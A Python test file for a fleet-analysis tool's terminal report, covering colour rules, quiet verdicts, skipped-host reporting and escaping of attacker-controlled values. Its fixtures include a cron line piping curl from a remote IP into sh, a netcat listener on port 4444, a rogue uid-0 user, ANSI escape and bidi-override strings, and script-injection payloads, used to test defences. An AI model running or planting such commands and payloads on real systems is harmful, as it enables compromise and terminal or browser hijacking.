"""The terminal report: colour rules, --quiet, verdict, honest gaps, and attacker-controlled values."""

from __future__ import annotations

import io
import re

import pytest
from report_samples import (
    HOSTILE_ANSI,
    HOSTILE_BIDI,
    HOSTILE_MARKUP,
    baseline_analysis,
    hostile_analysis,
    peers_analysis,
)

from diffy_analysis.findings import Analysis, HostResult, SkippedHost
from diffy_analysis.report import terminal

SGR = re.compile(r"\x1b\[[0-9;]*m")


class FakeTTY(io.StringIO):
    def isatty(self) -> bool:
        return True


def render(analysis: Analysis, stream: io.StringIO | None = None, **kwargs) -> str:
    stream = stream if stream is not None else io.StringIO()
    terminal.render(analysis, stream, **kwargs)
    return stream.getvalue()


@pytest.fixture(autouse=True)
def _no_env_colour(monkeypatch):
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.delenv("COLUMNS", raising=False)
    monkeypatch.delenv("FORCE_COLOR", raising=False)


def test_non_tty_output_has_no_escape_codes():
    out = render(peers_analysis())
    assert "\x1b" not in out
    assert "i-0abc1234" in out
    assert out.endswith("\n")
    assert all(line == line.rstrip() for line in out.splitlines())  # no padding to the console width


def test_tty_gets_colour_and_no_color_env_removes_it(monkeypatch):
    assert SGR.search(render(peers_analysis(), FakeTTY()))  # the control: a TTY does get colour
    monkeypatch.setenv("NO_COLOR", "1")
    assert "\x1b" not in render(peers_analysis(), FakeTTY())


def test_color_true_forces_colour_and_false_forbids_it(monkeypatch):
    assert SGR.search(render(peers_analysis(), color=True))
    assert "\x1b" not in render(peers_analysis(), FakeTTY(), color=False)
    monkeypatch.setenv("NO_COLOR", "1")
    assert SGR.search(render(peers_analysis(), color=True))


def test_quiet_prints_only_the_verdict_lines():
    out = render(peers_analysis(), quiet=True)
    lines = out.splitlines()
    assert lines[0] == (
        "2 of 24 hosts stand out: i-0abc1234 (listens on tcp/4444 (nc), new uid-0 user sysadm), "
        "i-0def5678 (cron job runs `curl -s http://203.0.113.9/x | sh` every 5 minutes, lacks the "
        "firewall rule INPUT DROP tcp/22 that 23 of 24 hosts have)"
    )
    assert lines[1] == (
        "2 hosts were not analysed (1 unreachable, 1 collection failed); "
        "2 hosts have queries that were not collected."
    )
    assert len(lines) == 2


def test_full_report_ranks_hosts_explains_outliers_and_ends_with_the_verdict():
    out = render(peers_analysis())
    assert out.index("i-0abc1234") < out.index("i-0def5678") < out.index("i-00000000")
    assert "listens on tcp/4444 (nc), on 1 of 24 hosts" in out
    assert "new uid-0 user sysadm, on 1 of 24 hosts" in out  # prevalence appended when missing
    assert "(weak evidence)" in out
    assert "(score 17.00; cluster 3; hostname=web-7, cloud.region=us-east-1)" in out  # not the name again
    # Honest reporting of what could not be collected.
    assert "kernel_modules: timeout on 2 hosts: i-0def5678, i-00000005" in out
    assert "unreachable: i-0dead000 — ssh: connect to host timed out" in out
    assert "failed: i-0bad0000 — osquery install failed" in out
    assert re.search(r"hosts skipped\s+2", out)
    assert re.search(r"outliers\s+2", out)
    # The verdict closes the report, unwrapped: a script can take the last lines.
    assert out.strip().splitlines()[-2:] == render(peers_analysis(), quiet=True).splitlines()


def test_no_outlier_verdict():
    analysis = Analysis(
        method="peers",
        run_ids=("r",),
        hosts=tuple(HostResult(f"h{i}", f"h{i}", 0.0, False, 1, ()) for i in range(5)),
    )
    assert render(analysis, quiet=True) == "No host stands out (5 hosts analysed).\n"


def test_nothing_analysed_says_so():
    analysis = Analysis(
        method="peers", run_ids=("r",), hosts=(), skipped=(SkippedHost("a", "down", "unreachable"),)
    )
    out = render(analysis, quiet=True)
    assert out.splitlines() == [
        "No host could be analysed (1 host skipped).",
        "1 host was not analysed (1 unreachable).",
    ]
    assert "No host could be analysed" in render(analysis)


def test_baseline_mode_names_changed_columns_with_both_values():
    out = render(baseline_analysis())
    assert "added / missing / changed" in out
    assert "1 / 1 / 1" in out
    assert "[changed] /usr/bin/passwd has a different sha256" in out
    assert "sha256: " + "9f86d081" * 8 in out
    assert "e3b0c442" * 8 in out
    assert "1 of 3 hosts differs from the baseline web-clean-2026-11: i-0aaa1111" in render(
        baseline_analysis(), quiet=True
    )
    # A difference most of the fleet shares is reported once, as a population.
    assert "shared by much of the fleet" in out
    assert "[changed] acme-orders is version 2.4.1 (baseline: 2.3.9), on 2 of 3 hosts  (deb_packages)" in out


def test_large_fleet_table_stays_short_but_lists_every_outlier():
    analysis = peers_analysis(n_hosts=300)
    out = render(analysis)
    hidden = 300 - 2 - terminal.TABLE_EXTRA_HOSTS
    assert f"… and {hidden} hosts with lower scores, none of them flagged" in out
    assert len(out.splitlines()) < 120


@pytest.mark.parametrize("color", [False, True])
def test_hostile_values_are_shown_literally_and_cannot_drive_the_terminal(color):
    out = render(hostile_analysis(), color=color)
    without_our_colours = SGR.sub("", out)
    # No escape, bell, bidi override or raw surrogate from a value reaches the terminal.
    assert "\x1b" not in without_our_colours
    assert "\x07" not in out
    assert "\u202e" not in out
    out.encode("utf-8")  # lone surrogates would make this raise
    # They are shown, made visible.
    assert "\\x1b]0;pwned\\x07\\x1b[2J" in without_our_colours
    assert "sha256: ok → bad-\\xff-\\x80-utf8" in without_our_colours
    # rich markup in a value is printed as text, not interpreted (with colour on, [red] would vanish).
    assert HOSTILE_MARKUP in without_our_colours
    assert "<script>window.__pwned=1</script>" in without_our_colours


def test_hostile_values_in_every_finding_are_escaped():
    out = render(hostile_analysis(), color=False, quiet=True)
    assert "\x1b" not in out
    from diffy_analysis.report._escape import safe_text

    assert safe_text(HOSTILE_BIDI) == "safe\\u202egnp.exe"
    assert safe_text("bad-\udcff-\udc80-utf8") == "bad-\\xff-\\x80-utf8"
    assert safe_text(HOSTILE_ANSI).startswith("\\x1b]0;pwned\\x07")
    long = safe_text("A" * 200_000)
    assert len(long) < 600
    assert long.endswith("[199,500 more characters not shown]")
    assert safe_text(b"\xff\xfeok") == "\\xff\\xfeok"
    assert safe_text("line1\nline2\ttab") == "line1\\nline2\\ttab"


# --- a generated fleet whose compromised hosts report hostile values, through the real engine -------


@pytest.fixture(scope="module")
def hostile_fleet_analysis(tmp_path_factory):
    from report_fleets import hostile_fleet

    return hostile_fleet(tmp_path_factory.mktemp("hostile-fleet"))


@pytest.mark.parametrize("color", [False, True])
def test_generated_hostile_fleet_terminal(hostile_fleet_analysis, color):
    fleet = hostile_fleet_analysis
    out = render(fleet.analysis, color=color)
    plain = SGR.sub("", out)
    assert "\x1b" not in plain and "\x07" not in plain
    out.encode("utf-8")
    for host in fleet.poisoned:
        assert f"◆ {host}" in plain  # its own section: it stands out
    assert "listens on tcp 0.0.0.0:4444 (process <script>window.__pwned=1</script>" in plain
    # The failed query and the unreachable host are reported, their hostile messages made harmless.
    assert "kernel_modules: error on 1 host" in plain
    assert 'osqueryi: "><img src=x onerror="window.__pwned=1"> \\x1b[31m' in plain
    assert "unreachable: " in plain and "ssh: <script>window.__pwned=1</script>" in plain
    verdict = render(fleet.analysis, quiet=True).splitlines()
    flagged = len(fleet.analysis.outliers)
    verb = "stands" if flagged == 1 else "stand"
    assert verdict[0].startswith(f"{flagged} of {len(fleet.analysis.hosts)} hosts {verb} out: ")
    assert verdict[1] == (
        "1 host was not analysed (1 unreachable); 1 host has queries that were not collected."
    )
